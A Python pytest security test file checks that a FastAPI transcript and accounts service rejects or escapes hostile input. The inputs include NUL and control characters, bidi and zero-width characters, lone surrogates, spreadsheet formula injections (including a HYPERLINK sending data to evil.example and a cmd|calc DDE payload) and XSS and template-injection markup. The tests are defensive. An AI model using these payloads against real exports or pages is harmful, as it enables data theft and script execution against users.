"""Hostile values inside otherwise valid requests: control characters and NUL (PostgreSQL cannot store NUL in
text: this was a 500 on every id and lookup), lone surrogates, spreadsheet formulas in the CSV export, and
markup in everything the HTML report and the API echo back."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient

from service.db import Database
from tests.service.builders import transcript_payload
from tests.service.conftest import auth
from tests.service.security.conftest import assert_problem, row_counts
from tests.service.security.handbuilt import PERSONA_IDS, RUN_ID, insert_run

HOSTILE_IDS = ["a\x00b", "tab\there", "line\nbreak", "bell\x07", "del\x7f"]


# Ids are path segments and must look like what they are: a "/" could never be read back through
# /v1/accounts/{customer_id}; bidi overrides and zero-width characters make an id look like another.
UNREADABLE_IDS = ["a/b", "/", "abc\u202edcba", "a\u200bb", "a\u200db", "\ufeffa", "a\u2066b\u2069"]


@pytest.mark.parametrize("value", HOSTILE_IDS + UNREADABLE_IDS, ids=repr)
@pytest.mark.parametrize("field", ["external_id", "customer_id"])
def test_control_invisible_and_slash_characters_in_transcript_ids_are_422(
    client: TestClient, db: Database, keys: dict[str, str], field: str, value: str
) -> None:
    payload = {"transcripts": [transcript_payload(**{field: value})]}
    response = client.post("/v1/transcripts", json=payload, headers=auth(keys["ingest"]))
    assert_problem(response, 422)
    assert response.json()["errors"][0]["field"] == f"transcripts.0.{field}"
    assert row_counts(db)["transcripts"] == 0


@pytest.mark.parametrize("value", UNREADABLE_IDS, ids=repr)
def test_slashes_and_invisible_characters_in_account_ids_are_422_json_and_csv(
    client: TestClient, db: Database, keys: dict[str, str], value: str
) -> None:
    headers = auth(keys["ingest"])
    response = client.put(
        "/v1/accounts", json={"accounts": [{"customer_id": value, "annual_revenue": 1}]}, headers=headers
    )
    assert_problem(response, 422)
    assert response.json()["errors"][0]["field"] == "accounts.0.customer_id"
    csv_body = f"customer_id,annual_revenue\n{value},1\n".encode()
    response = client.put("/v1/accounts", content=csv_body, headers={**headers, "Content-Type": "text/csv"})
    assert_problem(response, 422)
    assert "customer_id" in response.json()["errors"][0]["field"]


def test_nul_in_account_fields_is_422_json_and_csv(
    client: TestClient, db: Database, keys: dict[str, str]
) -> None:
    headers = auth(keys["ingest"])
    for account in (
        {"customer_id": "c\x00", "annual_revenue": 1},
        {"customer_id": "c", "annual_revenue": 1, "name": "n\x00"},
        {"customer_id": "c", "annual_revenue": 1, "attributes": {"k\x00": "v"}},
        {"customer_id": "c", "annual_revenue": 1, "attributes": {"k": "v\x00"}},
    ):
        assert_problem(client.put("/v1/accounts", json={"accounts": [account]}, headers=headers), 422)
    csv_headers = {**headers, "Content-Type": "text/csv"}
    for body in (
        "customer_id,annual_revenue\nc\x007,1\n",
        "customer_id,annual_revenue,name\nc,1,a\x00b\n",
        "customer_id,annual_revenue,region\nc,1,\x00\n",
    ):
        assert_problem(client.put("/v1/accounts", content=body.encode(), headers=csv_headers), 422)
    assert client.get("/v1/accounts/c", headers=auth(keys["read"])).status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/v1/accounts/a%00b",
        "/v1/transcripts?customer_id=a%00b",
        "/v1/transcripts?persona_id=%00&run_id=%00",
        "/v1/personas?run_id=a%00",
        "/v1/personas/%00",
        "/v1/runs/a%00b",
        "/v1/runs/a%00b/report",
        "/v1/customers?run_id=%00",
        "/v1/customers?persona_id=%00",
        "/v1/runs/%ED%A0%80",
        "/v1/accounts/%ED%A0%80",
    ],
)
def test_nul_and_invalid_bytes_in_lookups_are_never_a_500(
    client: TestClient, db: Database, keys: dict[str, str], path: str
) -> None:
    insert_run(db)
    response = client.get(path, headers=auth(keys["read"]))
    assert response.status_code < 500, (response.status_code, response.text[:300])
    if response.status_code >= 400:
        assert_problem(response, response.status_code)


def test_nul_in_a_persona_label_or_path_is_4xx(
    client: TestClient, db: Database, keys: dict[str, str]
) -> None:
    insert_run(db)
    admin = auth(keys["admin"])
    assert_problem(client.patch("/v1/personas/%00", json={"label": "x"}, headers=admin), 404, 422)
    response = client.patch(f"/v1/personas/{PERSONA_IDS[0]}", json={"label": "a\x00b"}, headers=admin)
    assert_problem(response, 422)
    label = client.get(f"/v1/personas/{PERSONA_IDS[0]}", headers=admin).json()["label"]
    assert "\x00" not in label


@pytest.mark.parametrize("label", ["", " ", "   \t ", "\u200b", " \u200b\u200c "], ids=repr)
def test_a_blank_label_on_rename_is_422_naming_the_field(
    client: TestClient, db: Database, keys: dict[str, str], label: str
) -> None:
    insert_run(db)
    admin = auth(keys["admin"])
    before = client.get(f"/v1/personas/{PERSONA_IDS[0]}", headers=admin).json()["label"]
    response = client.patch(f"/v1/personas/{PERSONA_IDS[0]}", json={"label": label}, headers=admin)
    assert_problem(response, 422)
    assert response.json()["errors"][0]["field"] == "label"
    assert client.get(f"/v1/personas/{PERSONA_IDS[0]}", headers=admin).json()["label"] == before
    renamed = client.patch(f"/v1/personas/{PERSONA_IDS[0]}", json={"label": " Loyal buyers "}, headers=admin)
    assert renamed.status_code == 200


@pytest.mark.parametrize(
    "text", ["\ud800 lone high", "lone low \udfff", "x\x00y", "\u202eevil\u202c", "\ufeff"]
)
def test_odd_text_in_turns_and_metadata_is_stored_or_refused_never_500(
    client: TestClient, db: Database, keys: dict[str, str], text: str
) -> None:
    payload = {"transcripts": [transcript_payload("odd", text=text, metadata={"note": text, text: 1})]}
    body = json.dumps(payload).encode()  # ASCII with \\u escapes: lone surrogates survive the transport
    response = client.post(
        "/v1/transcripts", content=body, headers={**auth(keys["ingest"]), "content-type": "application/json"}
    )
    assert response.status_code in (202, 422), response.text[:300]
    listing = client.get("/v1/transcripts", headers=auth(keys["read"]))
    assert listing.status_code == 200, listing.text[:300]


def test_customers_csv_neutralises_spreadsheet_formulas(
    client: TestClient, db: Database, keys: dict[str, str]
) -> None:
    hostile = {
        "=cmd|' /C calc'!A0": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+41-safe": "+SUM(1+1)",
        "@import": "@SUM(A1:A9)",
        "-2+3": "-2+3+cmd|' /C calc'!A0",
        "tab-id": "\t=1+1",
        "plain-id": "Plain Account",
    }
    insert_run(db, customers=list(hostile.items()))
    response = client.get("/v1/customers?format=csv", headers=auth(keys["read"]))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(hostile)
    for row in rows:
        for column in ("customer_id", "name", "persona_id"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
    by_name = {row["name"] for row in rows}
    assert "'" + hostile["=cmd|' /C calc'!A0"] in by_name and "Plain Account" in by_name
    # The JSON API is not a spreadsheet: there the values are exactly what was stored.
    items = client.get("/v1/customers", headers=auth(keys["read"])).json()["items"]
    assert {i["customer_id"] for i in items} == set(hostile)


MARKUP = [
    "</script><script>alert('label')</script>",
    "<img src=x onerror=alert('name')>",
    '"><svg onload=alert(1)>',
    "</style><script>alert(2)</script>",
    "{{ 7*7 }}{% raw %}",
]


def test_report_and_api_escape_markup_from_every_source(
    client: TestClient, db: Database, keys: dict[str, str]
) -> None:
    insert_run(
        db,
        quotes=MARKUP,
        customers=[(f"cust-{i}", value) for i, value in enumerate(MARKUP)],
        pond_in=[("segment", value) for value in MARKUP],
        unmatched=[MARKUP[0]],
    )
    admin = auth(keys["admin"])
    assert (
        client.patch(f"/v1/personas/{PERSONA_IDS[0]}", json={"label": MARKUP[0]}, headers=admin).status_code
        == 200
    )
    for path in ("/v1/reports/latest", f"/v1/runs/{RUN_ID}/report"):
        html = client.get(path, headers=auth(keys["read"])).text
        for dangerous in (
            "<script>alert(",
            "<img src=x",
            "<svg onload",
            "</script><script>",
            "</style><script>",
        ):
            assert dangerous not in html, (path, dangerous)
        # A template expression stays text wherever it came from (a quote, a pond value, a top account's
        # name): evaluated, it would be gone (and "49" cannot be looked for: Plotly's bundle is full of it).
        assert html.count(MARKUP[-1]) >= 3, (path, html.count(MARKUP[-1]))
    # JSON answers carry the text as data, with a JSON media type (never sniffed as HTML).
    personas = client.get("/v1/personas", headers=admin)
    assert personas.headers["content-type"].startswith("application/json")
    assert MARKUP[0] in personas.json()["personas"][0]["label"]
